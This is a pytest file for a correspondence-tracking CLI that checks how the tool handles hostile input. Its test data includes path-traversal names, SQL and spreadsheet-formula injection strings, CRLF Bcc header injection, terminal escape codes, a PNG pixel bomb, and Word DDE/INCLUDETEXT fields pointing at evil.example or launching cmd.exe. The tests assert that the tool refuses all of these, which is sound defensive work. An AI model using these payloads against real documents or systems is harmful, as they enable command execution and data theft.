"""Hostile or careless input: names that try to escape, control characters, random arguments.

(Hostile .docx files are in test_forms.py and test_enquiries.py; hostile templates in
test_documents.py; formula injection in exports in test_reports.py.)
"""

from __future__ import annotations

import email.message
from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from commresp.cli import cli
from commresp.workspace.files import safe_filename
from tests.helpers import all_commands, db_dump, record


@pytest.mark.parametrize(
    "name, expected",
    [
        ("../../etc/passwd", "passwd"),
        ("/etc/shadow", "shadow"),
        ("..\\..\\windows\\win.ini", "win.ini"),
        ("CON.pdf", "file-CON.pdf"),
        ("nul", "file-nul"),
        ("..", "file"),
        ("", "file"),
        ("letter\x00.pdf", "letter.pdf"),
        ("a" * 300 + ".pdf", "a" * 116 + ".pdf"),
    ],
)
def test_safe_filename(name, expected):
    assert safe_filename(name) == expected


def test_letter_name_cannot_escape_the_workspace(run, tmp_path):
    evil = tmp_path / "CON.pdf"
    evil.write_bytes(b"%PDF-1.4")
    run(
        "register",
        "AL BEL 1/2025",
        "--date",
        "2025-07-22",
        "--mandate",
        "torture",
        "--letter",
        str(evil),
    )
    incoming = run.root / "correspondence/AL-BEL-1-2025/incoming"
    assert [p.name for p in incoming.iterdir()] == ["letter-CON.pdf"]


def test_attachment_name_in_an_email_cannot_escape(run, tmp_path):
    from tests.helpers import TYPED, fill_form

    run("register", "AL BEL 1/2025", "--date", "2025-07-22", "--mandate", "torture")
    run("assign", "AL BEL 1/2025", "--agency", "myria", "--question", "Q1?", "--question", "Q2?")
    form = fill_form(
        run.root / "correspondence/AL-BEL-1-2025/enquiries/enquiry-myria.fr.docx",
        tmp_path / "f.docx",
        TYPED,
    )
    message = email.message.EmailMessage()
    message["Subject"] = "RE"
    message.set_content("see attached")
    message.add_attachment(
        form.read_bytes(),
        maintype="application",
        subtype="octet-stream",
        filename="../../../../tmp/evil.docx",
    )
    (tmp_path / "reply.eml").write_bytes(message.as_bytes())
    run("answer", "import", str(tmp_path / "reply.eml"))
    answers = run.root / "correspondence/AL-BEL-1-2025/answers"
    assert sorted(p.name for p in answers.iterdir()) == ["myria.r1.docx", "myria.r1.eml"]
    assert not Path("/tmp/evil.docx").exists()


@pytest.mark.parametrize("slug", ["../evil", "a/b", "UPPER", "x" * 61, "-lead", "trail-", "a b"])
def test_catalog_slugs_that_would_make_bad_paths_are_refused(run, slug):
    result = run("agencies", "add", "--name-en", "X", "--language", "en", "--", slug, code=2)
    assert "is not a valid slug" in result.stderr


def test_control_characters_are_escaped_in_terminal_output(run):
    subject = "Red \x1b[31mALERT\x1b[0m\x07 and \u202eevil"
    register = ["register", "AL BEL 1/2025", "--date", "2025-07-22", "--mandate", "torture"]
    result = run(*register, "--subject", subject, code=2)  # refused at input…
    assert "--subject must be one line of text; it holds a control character (U+001B)" in (
        result.stderr
    )
    # … but a record written before that check (or by another tool) is still shown safely
    run(*register)
    db = record(run.root)
    db.execute("update communications set subject = ?", [subject])
    db.close()
    for args in (["list"], ["status"], ["show", "AL BEL 1/2025"]):
        output = run(*args).output
        assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output
        assert "\\x1b[31mALERT" in output
    # JSON keeps the exact text, escaped by the JSON encoder
    assert run.json("show", "AL BEL 1/2025")["subject"] == subject


# --- fuzzing every command ----------------------------------------------------------------

# browse serves forever; the demo's replay is exercised in test_demo.py
SKIP = {("browse",), ("demo",), ("demo", "run")}
COMMANDS = [
    (path, command)
    for path, command in all_commands(cli)
    if path not in SKIP and not hasattr(command, "commands")
]
TOKENS = st.sampled_from(
    [
        "AL BEL 1/2025",
        "al-bel-1-2025",
        "UA BEL 2/2025",
        "AL ZZZ 1/2025",
        "XX",
        "",
        " ",
        "-",
        "--",
        "2025-07-22",
        "2025-02-30",
        "0",
        "-1",
        "99999999999",
        "trafficking",
        "trafficking:f",
        "myria",
        "fr",
        "en,fr",
        "de",
        "GP/CC 2025/210",
        "../x",
        "/etc/passwd",
        "ÉÀ€漢字",
        "\x00",
        "'; drop table communications; --",
        "%s%n",
        "{{ 7*7 }}",
        "=cmd|' /C calc'!A0",
        # numbers, dates and text at the limits (issue 13)
        "99999999999999999999",
        "-99999999999999999999",
        "9999-12-31",
        "0001-01-01",
        "2019-07-22",
        "caf\udce9",  # what Python makes of a Latin-1 byte on a UTF-8 command line
        "Evil\r\nBcc: all@evil.example",
        "a@x.example,b@y.example",
        "Myria <contact@myria.example>",
        "\u202eevil",
        "Si\u043ebh\u00e1n",
    ]
)
TODAYS = st.sampled_from(["2025-08-01", "2025-08-01", "9999-12-30", "0001-01-01", "2999-12-31"])


def options_of(command) -> list[str]:
    return [
        opt
        for param in command.params
        for opt in getattr(param, "opts", [])
        if opt.startswith("--")
    ]


def dump(root: Path) -> list[str]:
    db = record(root)
    try:
        return db_dump(db)
    finally:
        db.close()


@pytest.mark.slow
@settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_random_arguments_never_crash_and_failures_change_nothing(registered, data):
    path, command = data.draw(st.sampled_from(COMMANDS), label="command")
    pool = st.one_of(
        TOKENS, st.sampled_from(options_of(command) or ["--help"]), st.text(max_size=12)
    )
    args = data.draw(st.lists(pool, max_size=6), label="args")
    if any(a in ("--help",) for a in args):
        return
    today = data.draw(TODAYS, label="COMMRESP_TODAY")
    before = dump(registered.root)
    result = CliRunner().invoke(
        cli, ["-w", str(registered.root), *path, *args], env={"COMMRESP_TODAY": today}
    )
    assert result.exit_code in (0, 1, 2), (path, args, result.output, result.exception)
    if result.exception is not None:
        assert isinstance(result.exception, SystemExit), (path, args, result.exception)
    assert "Traceback" not in result.output
    if result.exit_code != 0:
        assert dump(registered.root) == before, (path, args, result.output)


def _png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims a gigantic picture (a pixel bomb for image decoders)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def test_a_form_with_a_huge_image_is_read_without_decoding_it(run, tmp_path):
    import docx
    from docx.shared import Cm

    from tests.helpers import answer_boxes

    run("register", "AL BEL 1/2025", "--date", "2025-07-22", "--mandate", "torture")
    run("assign", "AL BEL 1/2025", "--agency", "myria", "--question", "Q?")
    form = run.root / "correspondence/AL-BEL-1-2025/enquiries/enquiry-myria.fr.docx"
    (tmp_path / "bomb.png").write_bytes(_png_claiming(30000, 30000))
    document = docx.Document(form)
    box = answer_boxes(document)[0]
    box.paragraphs[0].add_run("See the photograph.")
    box.add_paragraph().add_run().add_picture(str(tmp_path / "bomb.png"), width=Cm(2))
    document.save(tmp_path / "returned.docx")
    run("answer", "import", str(tmp_path / "returned.docx"))
    assert run.json("answers", "AL BEL 1/2025")["enquiries"][0]["revisions"][0]["text"] == (
        "See the photograph."
    )


# --- returned forms with live fields (issue 13, class 11) --------------------------------

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _w(tag: str, **attrs):
    from lxml import etree

    element = etree.Element(f"{{{W_NS}}}{tag}")
    for name, value in attrs.items():
        element.set(f"{{{W_NS}}}{name}", value)
    return element


def _complex_field(paragraph, *instructions: str) -> None:
    """A field as Word writes it: begin, the instruction (maybe in several runs), separate,
    a result, end."""

    def run_with(child):
        run = _w("r")
        run.append(child)
        paragraph._p.append(run)
        return child

    run_with(_w("fldChar", fldCharType="begin"))
    for piece in instructions:
        run_with(_w("instrText")).text = piece
    run_with(_w("fldChar", fldCharType="separate"))
    run_with(_w("t")).text = "result"
    run_with(_w("fldChar", fldCharType="end"))


def _simple_field(paragraph, instruction: str) -> None:
    field = _w("fldSimple", instr=instruction)
    run = _w("r")
    run.append(_w("t"))
    run[0].text = "result"
    field.append(run)
    paragraph._p.append(field)


@pytest.fixture
def returned_form(run, tmp_path):
    from tests.helpers import fill_form

    run("register", "AL BEL 1/2025", "--date", "2025-07-22", "--mandate", "torture")
    run("assign", "AL BEL 1/2025", "--agency", "myria", "--question", "Q?")
    form = run.root / "correspondence/AL-BEL-1-2025/enquiries/enquiry-myria.fr.docx"
    return fill_form(form, tmp_path / "filled.docx", [[("", "No record found.", False)]])


@pytest.mark.parametrize(
    "where, kind, instructions, named",
    [
        ("body", "complex", [' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '], "DDEAUTO"),
        ("body", "complex", [" dde ", 'excel "sheet1"'], "DDE"),
        ("body", "complex", [" INCLUDE", 'TEXT "http://evil.example/x.docx" '], "INCLUDETEXT"),
        ("header", "simple", [' INCLUDEPICTURE "http://evil.example/p" \\d '], "INCLUDEPICTURE"),
        ("footer", "simple", [' LINK Excel.Sheet.8 "\\\\\\\\evil\\\\s.xls" "" \\a '], "LINK"),
        ("footer", "complex", [' IMPORT "http://evil.example/i.wmf" '], "IMPORT"),
    ],
)
def test_a_form_with_a_field_that_reaches_outside_is_refused(
    run, returned_form, tmp_path, where, kind, instructions, named
):
    import docx

    from tests.helpers import db_snapshot, tree

    document = docx.Document(returned_form)
    section = document.sections[0]
    holder = {"body": document, "header": section.header, "footer": section.footer}[where]
    paragraph = holder.add_paragraph()
    if kind == "simple":
        _simple_field(paragraph, instructions[0])
    else:
        _complex_field(paragraph, *instructions)
    hostile = tmp_path / "hostile.docx"
    document.save(hostile)
    before, files_before = db_snapshot(run.root), tree(run.root)
    result = run("answer", "import", str(hostile), code=1)
    line = result.stderr.strip()
    assert line.startswith("Error: hostile.docx: ") and "\n" not in line
    assert f"{named} field" in line and "refused" in line
    assert db_snapshot(run.root) == before and tree(run.root) == files_before


@pytest.mark.parametrize("part", ["word/footnotes.xml", "word/comments.xml", "word/endnotes.xml"])
def test_a_live_field_in_any_part_is_refused(run, returned_form, tmp_path, part):
    """Parts python-docx does not write into: the field goes into the package's XML directly
    (a footnote, a comment, or a part Word never shows)."""
    import zipfile

    field = (
        f'<w:r xmlns:w="{W_NS}"><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r xmlns:w="{W_NS}"><w:instrText> INCLUDETEXT "\\\\evil\\x.docx" </w:instrText></w:r>'
        f'<w:r xmlns:w="{W_NS}"><w:fldChar w:fldCharType="end"/></w:r>'
    )
    xml = f'<w:root xmlns:w="{W_NS}"><w:p>{field}</w:p></w:root>'
    hostile = tmp_path / "hostile.docx"
    with zipfile.ZipFile(returned_form) as src, zipfile.ZipFile(hostile, "w") as out:
        names = src.namelist()
        for name in names:
            data = src.read(name)
            if name == part:
                data = data.replace(b"</w:p>", field.encode() + b"</w:p>", 1)
            out.writestr(name, data)
        if part not in names:
            out.writestr(part, xml)
    result = run("answer", "import", str(hostile), code=1)
    assert f"hostile.docx: {part} holds a INCLUDETEXT field" in result.stderr


def test_a_form_with_ordinary_fields_is_accepted(run, returned_form, tmp_path):
    import docx

    document = docx.Document(returned_form)
    _complex_field(document.sections[0].footer.add_paragraph(), " PAGE ")
    _simple_field(document.add_paragraph(), ' HYPERLINK "https://www.example.org" ')
    ordinary = tmp_path / "ordinary.docx"
    document.save(ordinary)
    result = run("answer", "import", str(ordinary))
    assert "stored as revision 1" in result.stdout


# --- e-mail and single-line fields (issue 13, class 12) ------------------------------------


def _nested_eml(depth: int) -> bytes:
    """An e-mail whose body is a multipart inside a multipart… ``depth`` times."""
    lines = ["From: a@x.example", "Subject: deep", "MIME-Version: 1.0"]
    lines += ['Content-Type: multipart/mixed; boundary="b0"', ""]
    for i in range(depth):
        lines += [f"--b{i}", f'Content-Type: multipart/mixed; boundary="b{i + 1}"', ""]
    lines += [f"--b{depth}", "Content-Type: text/plain", "", "hello", f"--b{depth}--"]
    lines += [f"--b{i}--" for i in reversed(range(depth))]
    return ("\r\n".join(lines) + "\r\n").encode()


def test_an_email_nested_a_thousand_multiparts_deep_gives_one_line(registered, tmp_path):
    from tests.helpers import db_snapshot, tree

    (tmp_path / "deep.eml").write_bytes(_nested_eml(1000))
    before, files_before = db_snapshot(registered.root), tree(registered.root)
    result = registered("answer", "import", str(tmp_path / "deep.eml"), code=1)
    assert result.stderr.startswith("Error: deep.eml: ") and result.stderr.count("\n") == 1
    assert "nested" in result.stderr and "Traceback" not in result.output
    assert db_snapshot(registered.root) == before and tree(registered.root) == files_before


def test_a_huge_email_is_refused_by_its_size_before_it_is_read(registered, tmp_path):
    big = tmp_path / "huge.eml"
    with open(big, "wb") as handle:
        handle.truncate(3 * 1024**3)  # sparse: 3 GB that take no room on disk
    result = registered("answer", "import", str(big), code=1)
    assert result.stderr.strip() == (
        "Error: huge.eml: the e-mail is 3072.0 MB, more than the 25.0 MB a mail server "
        "accepts; save the form from the e-mail and import the .docx itself"
    )


@pytest.mark.parametrize(
    "email",
    [
        "contact@myria.example, other@evil.example",
        "contact@myria.example,other@evil.example",
        "contact@myria.example other@evil.example",
        "contact@myria.example; other@evil.example",
        "Myria <contact@myria.example>, other@evil.example",
        "contact@myria.example\r\nBcc: other@evil.example",
        "not an address",
    ],
)
def test_an_agency_email_is_one_address(run, email):
    result = run("agencies", "edit", "myria", "--email", email, code=2)
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1


def test_an_agency_email_keeps_its_display_name(run):
    run("agencies", "edit", "myria", "--email", "Myria contact <contact@myria.example>")
    [row] = [r for r in run.json("agencies", "myria") if r["slug"] == "myria"]
    assert row["email"] == "Myria contact <contact@myria.example>"
    run("register", "AL BEL 1/2025", "--date", "2025-07-22", "--mandate", "torture")
    run("assign", "AL BEL 1/2025", "--agency", "myria", "--question", "Q?")
    from tests.helpers import read_eml

    message = read_eml(run.root / "correspondence/AL-BEL-1-2025/enquiries/enquiry-myria.eml")
    assert message["To"] == "Myria contact <contact@myria.example>"


LINE_BREAKS = ["Evil\r\nBcc: all@evil.example", "Evil\nname", "Red \x1b[31m", "a\u2028b", "x\x85y"]


@pytest.mark.parametrize("bad", LINE_BREAKS)
@pytest.mark.parametrize(
    "args",
    [
        ["agencies", "add", "evil", "--language", "en", "--name-en", "{}"],
        ["agencies", "edit", "myria", "--name-fr", "{}"],
        ["mandates", "edit", "torture", "--title-en", "{}"],
        [
            "register",
            "AL BEL 9/2025",
            "--date",
            "2025-07-22",
            "--mandate",
            "torture",
            "--subject",
            "{}",
        ],
        [
            "register",
            "AL BEL 9/2025",
            "--date",
            "2025-07-22",
            "--mandate",
            "torture",
            "--title-en",
            "torture={}",
        ],
        ["edit", "AL BEL 1/2025", "--subject", "{}"],
        ["assign", "AL BEL 1/2025", "--agency", "myria", "--question", "{}"],
        ["confidential", "AL BEL 1/2025", "--add", "{}"],
        ["close", "AL BEL 1/2025", "--reason", "{}"],
        ["--actor", "{}", "edit", "AL BEL 1/2025", "--summary", "ok"],
    ],
    ids=lambda a: " ".join(a[:2]) if isinstance(a, list) else None,
)
def test_a_line_break_or_control_character_in_a_single_line_field_is_refused(registered, args, bad):
    from tests.helpers import db_snapshot, tree

    before, files_before = db_snapshot(registered.root), tree(registered.root)
    result = registered(*[a.replace("{}", bad) for a in args], code=2)
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1, result.stderr
    assert "Traceback" not in result.output
    assert db_snapshot(registered.root) == before and tree(registered.root) == files_before


# --- numbers and dates at the limits (issue 13, class 13) ----------------------------------


def _integer_options():
    from tests.helpers import all_commands

    for path, command in all_commands(cli):
        for param in command.params:
            if isinstance(param.type, click.types.IntParamType):
                yield path, param


def test_every_integer_option_is_bounded():
    unbounded = [
        f"{' '.join(path)} {param.opts[0]}"
        for path, param in _integer_options()
        if not isinstance(param.type, click.IntRange)
        or param.type.min is None
        or param.type.max is None
    ]
    assert unbounded == []


@pytest.mark.parametrize(
    "args",
    [
        ["list", "--limit", "99999999999999999999"],
        ["list", "--page", "99999999999999999999"],
        ["list", "--year", "99999999999999999999"],
        ["status", "--limit", "99999999999999999999"],
        [
            "assign",
            "AL BEL 1/2025",
            "--agency",
            "myria",
            "--question",
            "Q?",
            "--due-in",
            "99999999999999999999",
        ],
        ["draft", "AL BEL 1/2025", "--reuse", "99999999999999999999"],
        ["search", "x", "--limit", "-99999999999999999999"],
    ],
    ids=lambda a: " ".join(a[:1] + a[-2:-1]),
)
def test_huge_numbers_give_one_line(registered, args):
    result = registered(*args, code=2)
    assert [line for line in result.stderr.splitlines() if line.startswith("Error:")], result
    assert (
        "Traceback" not in result.output
        and result.exception is None
        or isinstance(result.exception, SystemExit)
    )


def _invoke_bytes(root: Path, *args: bytes, env: dict | None = None):
    """commresp in its own process with arguments as raw bytes (as a terminal set to Latin-1
    would send them), in a UTF-8 locale."""
    import os
    import subprocess
    import sys

    import commresp

    source = str(Path(commresp.__file__).resolve().parent.parent)
    environment = {**os.environ, "LC_ALL": "C.UTF-8", "PYTHONUTF8": "0", **(env or {})}
    environment["PYTHONPATH"] = os.pathsep.join([source, os.environ.get("PYTHONPATH", "")])
    return subprocess.run(
        [sys.executable, "-m", "commresp", "-w", str(root).encode(), *args],
        capture_output=True,
        env=environment,
    )


@pytest.mark.parametrize(
    "args",
    [
        [b"edit", b"AL BEL 1/2025", b"--subject", b"caf\xe9"],
        [
            b"register",
            b"AL BEL 2/2025",
            b"--date",
            b"2025-07-22",
            b"--mandate",
            b"torture",
            b"--subject",
            b"Traite des \xeatres humains",
        ],
        [b"agencies", b"add", b"caf\xe9", b"--name-en", b"x", b"--language", b"en"],
        [b"search", b"\xe9t\xe9"],
    ],
    ids=["edit", "register", "agency slug", "search"],
)
def test_undecodable_bytes_in_arguments_give_one_line(registered, args):
    from tests.helpers import db_snapshot

    before = db_snapshot(registered.root)
    result = _invoke_bytes(registered.root, *args)
    stderr = result.stderr.decode("utf-8", "replace")
    assert result.returncode == 2, stderr
    assert stderr.count("\n") == 1 and stderr.startswith("Error: "), stderr
    assert "not text in this system's encoding" in stderr and "\\xe" in stderr
    assert db_snapshot(registered.root) == before


@pytest.mark.parametrize("today", ["9999-12-30", "9999-12-31", "0001-01-01"])
@pytest.mark.parametrize(
    "args",
    [
        ["list"],
        ["status"],
        ["register", "AL BEL 2/2025", "--date", "2025-07-22", "--mandate", "torture"],
        ["assign", "AL BEL 1/2025", "--agency", "myria", "--question", "Q?"],
        ["overdue"],
    ],
    ids=lambda a: a[0],
)
def test_a_today_at_the_limits_gives_one_line(registered, monkeypatch, today, args):
    monkeypatch.setenv("COMMRESP_TODAY", today)
    result = registered(*args, code=1)
    assert result.stderr.startswith("Error: COMMRESP_TODAY=") and result.stderr.count("\n") == 1


@pytest.mark.parametrize("given", ["9999-12-31", "9999-12-01", "0001-01-01", "1900-01-01"])
@pytest.mark.parametrize("option", ["--date", "--received"])
def test_dates_at_the_limits_give_one_line(registered, given, option):
    args = ["register", "AL BEL 2/2025", "--mandate", "torture", "--date", "2025-07-22"]
    result = registered(*args, option, given, code=2)
    assert [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert "between 1990-01-01 and 2999-12-31" in result.stderr


@pytest.mark.parametrize(
    "letter_date, received, allowed",
    [
        ("2019-07-22", "2025-07-24", False),  # six years before its reference's year
        ("2023-12-30", "2025-01-06", False),  # two years before, even in January
        ("2024-12-30", "2025-01-06", True),  # the year before, registered in January
        ("2024-12-30", "2025-02-03", False),
        ("2025-01-02", "2025-01-03", True),
    ],
)
def test_a_letter_dated_outside_its_references_year_needs_force(
    registered, letter_date, received, allowed
):
    from tests.helpers import db_snapshot

    args = ["register", "AL BEL 2/2025", "--mandate", "torture"]
    args += ["--date", letter_date, "--received", received]
    if allowed:
        registered(*args)
        return
    before = db_snapshot(registered.root)
    result = registered(*args, code=2)
    assert f"the letter date {letter_date} is outside 2025, the year of AL BEL 2/2025" in (
        result.stderr
    )
    assert "--force" in result.stderr and result.stderr.count("\n") == 1
    assert db_snapshot(registered.root) == before
    registered(*args, "--force")
    result = registered("edit", "AL BEL 2/2025", "--date", "2018-01-01", code=2)
    assert "--force" in result.stderr
    registered("edit", "AL BEL 2/2025", "--date", "2018-01-01", "--force")


# --- the pure rules behind the checks above -----------------------------------------------


def test_single_and_multi_line_fields():
    from commresp.errors import BadInput
    from commresp.rules import input_text

    assert input_text.single_line("  Federal Police ", "--name-en") == "Federal Police"
    assert input_text.single_line("مكتب \u200fالشرطة", "--name-en")  # RLM is fine
    with pytest.raises(BadInput, match=r"--subject must be one line of text; it holds a line "):
        input_text.single_line("a\r\nBcc: x", "--subject")
    with pytest.raises(BadInput, match=r"a bidi override \(U\+202E"):
        input_text.single_line("\u202eevil", "--subject")
    with pytest.raises(BadInput, match="bytes that are not text"):
        input_text.single_line("caf\udce9", "--subject")
    assert input_text.multi_line("one\r\ntwo\rthree\tfour", "--summary") == (
        "one\ntwo\nthree\tfour"
    )
    with pytest.raises(BadInput, match=r"a control character \(U\+001B\)"):
        input_text.multi_line("one\n\x1b[31m", "--summary")


def test_letter_date_fits_its_reference_year():
    from datetime import date

    from commresp.rules.references import letter_date_fits

    assert letter_date_fits(2025, date(2025, 7, 22), date(2025, 7, 24))
    assert letter_date_fits(2025, date(2024, 12, 30), date(2025, 1, 6))
    assert not letter_date_fits(2025, date(2024, 12, 30), date(2025, 2, 1))
    assert not letter_date_fits(2025, date(2023, 12, 30), date(2025, 1, 6))
    assert not letter_date_fits(2025, date(2026, 1, 2), date(2026, 1, 3))
